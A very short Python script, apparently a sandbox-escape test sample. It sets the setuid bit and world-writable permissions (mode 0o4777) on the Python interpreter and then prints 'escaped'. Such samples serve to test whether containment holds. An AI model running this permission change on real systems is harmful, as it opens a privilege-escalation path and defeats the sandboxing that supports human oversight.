"""Change rights of the interpreter."""

import os

os.chmod("/python/bin/python3", 0o4777)
print("escaped")
